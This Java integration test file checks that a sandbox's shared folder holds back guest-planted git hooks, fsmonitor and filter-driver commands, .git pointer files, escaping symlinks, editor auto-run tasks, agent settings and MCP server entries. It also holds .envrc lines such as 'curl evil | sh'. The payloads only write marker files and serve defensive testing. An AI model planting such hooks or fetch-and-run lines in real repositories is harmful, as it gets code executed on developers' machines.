package dev.kosa8.it;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * The folder is no way back onto the host: attacks by a real guest on the files host tools run
 * or obey, each checked by running the real {@code git} on the host afterwards. Every payload
 * would write a marker file in /tmp: in the guest's /tmp when the guest runs it (the guest sees
 * and uses what it wrote), in the host's when the host does, which must never happen.
 */
@ExtendWith(SharedSandbox.class)
class HeldPathsIT {
    private final List<Path> markers = new ArrayList<>();
    private Path hostHome;

    @BeforeEach
    void hostGitHome() throws IOException {
        hostHome = Files.createTempDirectory("held-it-home"); // no user's global git config on the host side
    }

    @AfterEach
    void cleanUp() throws IOException {
        for (Path m : markers) {
            Files.deleteIfExists(m);
        }
        Kosa.deleteTree(hostHome);
    }

    private String marker() {
        Path m = Path.of("/tmp", "kosa8-held-it-" + UUID.randomUUID());
        markers.add(m);
        return m.toString();
    }

    private static Kosa.Result sh(SharedSandbox.Booted box, String script) {
        Kosa.Result r = box.exec(Duration.ofMinutes(3), "sh", "-euc", script);
        assertThat(r.exitCode()).as(r.toString()).isZero();
        return r;
    }

    /** Runs the host's git in {@code dir}: identity given, no global or system config. */
    private String hostGit(Path dir, String... args) throws Exception {
        List<String> cmd = new ArrayList<>(List.of("git", "-c", "user.name=host", "-c", "user.email=host@example.com"));
        cmd.addAll(List.of(args));
        ProcessBuilder pb = new ProcessBuilder(cmd).directory(dir.toFile()).redirectErrorStream(true);
        pb.environment().put("HOME", hostHome.toString());
        pb.environment().put("GIT_CONFIG_NOSYSTEM", "1");
        // never up into the repository the test folder itself lies in
        pb.environment().put("GIT_CEILING_DIRECTORIES", dir.getParent().getParent().toString());
        Process p = pb.start();
        String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertThat(p.waitFor(60, TimeUnit.SECONDS)).isTrue();
        return "exit " + p.exitValue() + ": " + out;
    }

    /** A repository made on the host, with one commit, in the shared folder. */
    private Path hostRepo(SharedSandbox.Booted box, String name) throws Exception {
        Path repo = box.workspace().resolve(name);
        Files.createDirectories(repo);
        assertThat(hostGit(repo, "init", "-q", "-b", "main")).startsWith("exit 0");
        Files.writeString(repo.resolve("a.txt"), "one\n");
        assertThat(hostGit(repo, "add", "a.txt")).startsWith("exit 0");
        assertThat(hostGit(repo, "commit", "-qm", "first")).startsWith("exit 0");
        return repo;
    }

    private static String hook(String marker) {
        return "printf '#!/bin/sh\\necho ran > " + marker + "\\n'";
    }

    @Test
    void aHookPlantedInAnExistingRepositoryRunsInTheGuestButNeverOnTheHost(SharedSandbox.Booted box) throws Exception {
        Path repo = hostRepo(box, "planted");
        String m = marker();
        Kosa.Result r = sh(box, "cd planted && " + hook(m) + " > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit"
                + " && git -c user.name=g -c user.email=g@x commit -q --allow-empty -m guest && cat " + m);
        assertThat(r.stdout()).as("the guest ran its own hook").isEqualTo("ran\n");

        assertThat(repo.resolve(".git/hooks/pre-commit")).doesNotExist();
        assertThat(hostGit(repo, "commit", "-q", "--allow-empty", "-m", "host")).startsWith("exit 0");
        assertThat(Path.of(m)).as("the host's commit ran the guest's hook").doesNotExist();
        assertThat(hostGit(repo, "log", "--oneline")).contains("guest", "host");
    }

    @Test
    void fsmonitorHooksPathAndAFilterDriverSetByTheGuestNeverRunOnTheHost(SharedSandbox.Booted box) throws Exception {
        Path repo = hostRepo(box, "configured");
        String fsmonitor = marker();
        String hooksPath = marker();
        String filter = marker();
        Kosa.Result r = sh(box, "cd configured"
                + " && git config core.fsmonitor 'echo ran > " + fsmonitor + "; false'"
                + " && mkdir -p evilhooks && " + hook(hooksPath) + " > evilhooks/pre-commit && chmod +x evilhooks/pre-commit"
                + " && git config core.hooksPath evilhooks"
                + " && git config filter.evil.clean 'sh -c \"echo ran > " + filter + "; cat\"'"
                + " && echo '* filter=evil' > .gitattributes"
                + " && git config --get core.hooksPath");
        assertThat(r.stdout()).as("the guest reads its own config").isEqualTo("evilhooks\n");

        assertThat(Files.readString(repo.resolve(".git/config"))).doesNotContain("fsmonitor", "hooksPath", "evil");
        echoInto(repo.resolve("a.txt"), "two\n");
        assertThat(hostGit(repo, "status", "--porcelain")).startsWith("exit 0");
        assertThat(hostGit(repo, "add", "-A")).startsWith("exit 0");
        assertThat(hostGit(repo, "commit", "-qm", "host")).startsWith("exit 0");
        assertThat(Path.of(fsmonitor)).doesNotExist();
        assertThat(Path.of(hooksPath)).doesNotExist();
        assertThat(Path.of(filter)).doesNotExist();
    }

    private static void echoInto(Path file, String text) throws IOException {
        Files.writeString(file, text);
    }

    @Test
    void aRepositoryTheGuestCreatesInASubfolderBringsNoHookToTheHost(SharedSandbox.Booted box) throws Exception {
        String m = marker();
        Kosa.Result r = sh(box, "mkdir -p fresh && cd fresh && git init -q -b main && " + hook(m)
                + " > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit"
                + " && git -c user.name=g -c user.email=g@x commit -q --allow-empty -m guest && cat " + m
                + " && rm " + m);
        assertThat(r.stdout()).isEqualTo("ran\n");
        Path repo = box.workspace().resolve("fresh");
        assertThat(repo.resolve(".git/HEAD")).exists();
        assertThat(repo.resolve(".git/hooks/pre-commit")).doesNotExist();
        hostGit(repo, "commit", "-q", "--allow-empty", "-m", "host");
        assertThat(Path.of(m)).doesNotExist();
    }

    @Test
    void gitMovedAsideAndReplacedLeavesTheHostsHooksAndConfigInPlace(SharedSandbox.Booted box) throws Exception {
        Path repo = hostRepo(box, "replaced");
        String m = marker();
        // mv of .git is refused as a rename (EXDEV), so mv copies and then fails to empty .git of its held files
        Kosa.Result r = box.exec(Duration.ofMinutes(3), "sh", "-c", "cd replaced && mv .git .git-aside; rm -rf .git;"
                + " git init -q -b main && " + hook(m) + " > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit"
                + " && git config core.fsmonitor 'echo ran > " + m + "; false'"
                + " && git -c user.name=g -c user.email=g@x commit -q --allow-empty -m guest && cat " + m);
        assertThat(r.stdout()).as(r.toString()).endsWith("ran\n");

        assertThat(repo.resolve(".git/hooks/pre-commit")).doesNotExist();
        assertThat(Files.readString(repo.resolve(".git/config"))).doesNotContain("fsmonitor");
        hostGit(repo, "status");
        hostGit(repo, "commit", "-q", "--allow-empty", "-m", "host");
        assertThat(Path.of(m)).doesNotExist();
    }

    @Test
    void aGitFilePointingToAGuestMadeDirectoryIsNeverFollowedOnTheHost(SharedSandbox.Booted box) throws Exception {
        String m = marker();
        Kosa.Result r = sh(box, "mkdir -p pointed/wt && cd pointed && git init -q --bare evil"
                + " && git --git-dir=evil config core.fsmonitor 'echo ran > " + m + "; false'"
                + " && git --git-dir=evil config core.bare false"
                + " && echo 'gitdir: ../evil' > wt/.git && cd wt && git status --porcelain >/dev/null 2>&1; cat " + m);
        assertThat(r.stdout()).as("the guest follows its own .git file").isEqualTo("ran\n");
        Path dir = box.workspace().resolve("pointed");
        assertThat(dir.resolve("wt/.git")).doesNotExist();
        assertThat(dir.resolve("evil/HEAD")).as("a bare repository the guest made is none on the host").doesNotExist();
        hostGit(dir.resolve("wt"), "status");
        hostGit(dir.resolve("evil"), "status");
        assertThat(Path.of(m)).doesNotExist();
    }

    @Test
    void envrcEditorTasksAgentSettingsAndMcpServersStayAsTheHostHadThem(SharedSandbox.Booted box) throws Exception {
        Path dir = box.workspace().resolve("tools");
        Files.createDirectories(dir);
        Files.writeString(dir.resolve(".envrc"), "export MINE=1\n");
        Kosa.Result r = sh(box, "cd tools && echo 'curl evil | sh' > .envrc && sed -i s/evil/worse/ .envrc"
                + " && mkdir -p .vscode .claude && echo '{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"}}]}'"
                + " > .vscode/tasks.json && echo '{\"hooks\":{\"Stop\":[]}}' > .claude/settings.json"
                + " && echo '{\"mcpServers\":{\"x\":{\"command\":\"sh\"}}}' > .mcp.json"
                + " && cat .envrc .vscode/tasks.json .claude/settings.json .mcp.json | wc -l");
        assertThat(r.stdout()).as("the guest sees what it wrote").isEqualTo("4\n");
        assertThat(sh(box, "cat tools/.envrc").stdout()).isEqualTo("curl worse | sh\n");
        assertThat(dir.resolve(".envrc")).content().isEqualTo("export MINE=1\n");
        assertThat(dir.resolve(".vscode")).doesNotExist();
        assertThat(dir.resolve(".claude")).doesNotExist();
        assertThat(dir.resolve(".mcp.json")).doesNotExist();
    }

    @Test
    void aSymlinkOutOfTheFolderIsHeldAndTheGuestStillUsesIt(SharedSandbox.Booted box) throws Exception {
        Kosa.Result r = sh(box, "mkdir -p linked && cd linked && ln -s /etc/hostname key && ln -s ../../.. up"
                + " && ln -s ../linked/x fine && cat key >/dev/null && readlink up");
        assertThat(r.stdout()).isEqualTo("../../..\n");
        Path dir = box.workspace().resolve("linked");
        assertThat(Files.exists(dir.resolve("key"), LinkOption.NOFOLLOW_LINKS)).isFalse();
        assertThat(Files.exists(dir.resolve("up"), LinkOption.NOFOLLOW_LINKS)).isFalse();
        assertThat(Files.isSymbolicLink(dir.resolve("fine"))).isTrue();
    }

    @Test
    void ordinaryGitWorkInTheGuestReachesTheHostAsBefore(SharedSandbox.Booted box) throws Exception {
        Path repo = hostRepo(box, "ordinary");
        sh(box, "cd ordinary && git -c user.name=g -c user.email=g@x commit -q --allow-empty -m two"
                + " && git checkout -q -b topic && echo three >> a.txt"
                + " && git -c user.name=g -c user.email=g@x commit -qam three && git checkout -q main"
                + " && git -c user.name=g -c user.email=g@x rebase -q topic && mkdir -p target && echo b > target/out");
        assertThat(hostGit(repo, "log", "--oneline", "main")).contains("three", "two", "first");
        assertThat(hostGit(repo, "status", "--porcelain")).isEqualTo("exit 0: ?? target/\n");
        assertThat(repo.resolve("a.txt")).content().isEqualTo("one\nthree\n");
    }

    @Test
    void reviewShowsWhatIsHeldAcceptWritesItAndRejectGivesTheGuestTheHostsVersion(SharedSandbox.Booted box)
            throws Exception {
        Path dir = box.workspace().resolve("reviewed");
        Files.createDirectories(dir);
        Files.writeString(dir.resolve(".envrc"), "export A=1\n");
        sh(box, "cd reviewed && echo 'export A=2' > .envrc && mkdir -p .github/workflows"
                + " && echo 'on: push' > .github/workflows/ci.yml");
        Kosa.Result review = Kosa.ok(Duration.ofMinutes(1), "review", box.id());
        assertThat(review.stdout()).contains("modify", "reviewed/.envrc", "-export A=1", "+export A=2",
                "add", "reviewed/.github/workflows", "+on: push", "protects against: direnv");

        Kosa.Result accepted = Kosa.ok(Duration.ofMinutes(1), "accept", box.id(), "reviewed/.envrc");
        assertThat(accepted.stdout()).contains("accepted reviewed/.envrc");
        assertThat(dir.resolve(".envrc")).content().isEqualTo("export A=2\n");

        Files.writeString(dir.resolve("unrelated"), "x");
        Kosa.Result notHeld = Kosa.run(Duration.ofMinutes(1), "accept", box.id(), "reviewed/unrelated");
        assertThat(notHeld.exitCode()).isEqualTo(2);
        assertThat(notHeld.stderr()).contains("not held: reviewed/unrelated");

        Kosa.ok(Duration.ofMinutes(1), "reject", box.id(), "reviewed/.github/workflows");
        Kosa.Result gone = box.exec("sh", "-c", "ls reviewed/.github 2>&1 | wc -l; cat reviewed/.envrc");
        assertThat(gone.stdout()).isEqualTo("0\nexport A=2\n");
        assertThat(dir.resolve(".github/workflows")).doesNotExist();
    }

    @Test
    void aRewindPutsBackWhatWasHeldAtItsCheckpoint(SharedSandbox.Booted box) throws Exception {
        sh(box, "mkdir -p rewound/.git && echo 'export B=1' > rewound/.envrc");
        Kosa.ok(Duration.ofMinutes(5), "checkpoint", box.id(), "-m", "held: .envrc only");
        sh(box, "cd rewound && echo 'export B=2' > .envrc && mkdir .git/hooks && echo '#!/bin/sh' > .git/hooks/post-merge");
        assertThat(Kosa.ok(Duration.ofMinutes(1), "review", box.id(), "--no-diff").stdout())
                .contains("rewound/.git/hooks");
        Kosa.ok(Duration.ofMinutes(5), "rewind", box.id());
        Kosa.Result after = box.exec("sh", "-c", "cat rewound/.envrc; ls rewound/.git/hooks 2>/dev/null | wc -l");
        assertThat(after.stdout()).as(after.toString()).isEqualTo("export B=1\n0\n");
        assertThat(Kosa.ok(Duration.ofMinutes(1), "review", box.id(), "--no-diff").stdout())
                .contains("rewound/.envrc").doesNotContain("rewound/.git/hooks");
        assertThat(box.workspace().resolve("rewound/.envrc")).doesNotExist();
    }

    @Test
    void runSaysWhatIsHeldAndARemovedSandboxsHeldChangesAreKeptForReview() throws Exception {
        Path dir = Files.createDirectories(Kosa.CWD.resolve("held-run-" + UUID.randomUUID()));
        try {
            Kosa.Result run = Kosa.ok(Duration.ofMinutes(10), "run", "--workspace", dir.toString(), "--",
                    "sh", "-c", "echo 'curl x | sh' > .envrc");
            assertThat(run.stderr()).contains("1 change(s) held for review, not written to your folder: kosa8 review ");
            assertThat(dir.resolve(".envrc")).doesNotExist();
            String id = run.stderr().replaceAll("(?s).*kosa8 review ([0-9a-z]+).*", "$1");
            Kosa.Result review = Kosa.ok(Duration.ofMinutes(1), "review", id);
            assertThat(review.stdout()).contains("add", ".envrc", "+curl x | sh");
            Kosa.ok(Duration.ofMinutes(1), "reject", id, "--all");
            Kosa.Result after = Kosa.run(Duration.ofMinutes(1), "review", id);
            assertThat(after.stderr()).contains("no sandbox '" + id + "'");
        } finally {
            Kosa.deleteTree(dir);
        }
    }

    /**
     * A guest writing without end at a held path fills the held layer to its bound (1 GiB,
     * docs/limits.md) and then gets ENOSPC from its own write; the host keeps no more than the bound,
     * and the folder has none of it. Writes a GiB through the folder: tagged long (the bound's cases
     * with a small bound run in the default suite, {@code HeldSpaceTest}).
     */
    @Test
    @Tag("long")
    void aGuestWritingWithoutEndAtAHeldPathGetsNoSpaceAtTheHeldLayersBound(SharedSandbox.Booted box) throws Exception {
        hostRepo(box, "bound-repo");
        Kosa.Result r = box.exec(Duration.ofMinutes(40), "sh", "-c",
                "cd /workspace/bound-repo && s=$(date +%s); dd if=/dev/zero of=.git/hooks/big bs=1M count=1100 "
                        + "conv=fsync; echo status $? after $(( $(date +%s) - s )) s");
        // the folder's writes are cached in the guest and written back: the error comes by the file's fsync (or
        // close), as from a full disk under any write-back cache (docs/workspace.md)
        assertThat(r.stdout() + r.stderr()).as(r.toString()).contains("No space left on device")
                .contains("status 1");
        Process du = new ProcessBuilder("du", "-s", "--block-size=1",
                Kosa.HOME.resolve("data/sandboxes").resolve(box.id()).resolve("held").toString()).start();
        long held = Long.parseLong(new String(du.getInputStream().readAllBytes()).strip().split("\\s+")[0]);
        assertThat(du.waitFor()).isZero();
        assertThat(held).as("the held layer on the host").isLessThanOrEqualTo((1L << 30) + (1L << 20));
        assertThat(box.workspace().resolve("bound-repo/.git/hooks/big")).doesNotExist();
        sh(box, "rm /workspace/bound-repo/.git/hooks/big");
    }
}
